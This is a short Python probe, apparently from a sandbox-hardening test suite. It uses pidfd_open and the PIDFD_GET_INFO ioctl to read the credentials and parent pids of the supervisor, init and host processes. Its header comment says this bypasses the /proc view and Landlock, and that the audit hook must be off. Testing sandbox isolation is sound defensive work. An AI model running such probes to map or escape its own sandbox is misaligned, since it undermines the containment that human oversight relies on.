# Read other processes' credentials and family through a pidfd: PIDFD_GET_INFO (Linux 6.13)
# answers any pidfd's holder with the process's uids, gids, parent pid and cgroup, no
# permission asked. There is no pid namespace, so pidfd_open reaches the supervisor (or the
# warm template), init and every host process: the host's process tree, and who runs what,
# which the view and Landlock hide from /proc. Reports each pidfd_open's errno name, or what
# the pidfd told. Needs the audit hook off (ctypes).
import ctypes, errno, fcntl, os, struct

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GET_INFO = (3 << 30) | (64 << 16) | (0xFF << 8) | 11  # _IOWR(0xFF, 11, 64 bytes)


def probe(pid):
    fd = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))  # pidfd_open
    if fd < 0:
        return errno.errorcode[ctypes.get_errno()]
    buf = bytearray(struct.pack("Q", 0x7) + bytes(56))  # PID | CREDS | CGROUPID
    try:
        fcntl.ioctl(fd, PIDFD_GET_INFO, buf)
        pid_, tgid, ppid, ruid = struct.unpack_from("4I", buf, 16)
        return {"ppid": ppid, "ruid": ruid}
    except OSError as e:
        return "opened, " + errno.errorcode[e.errno]
    finally:
        os.close(fd)


result = {"parent": probe(os.getppid()), "init": probe(1)}
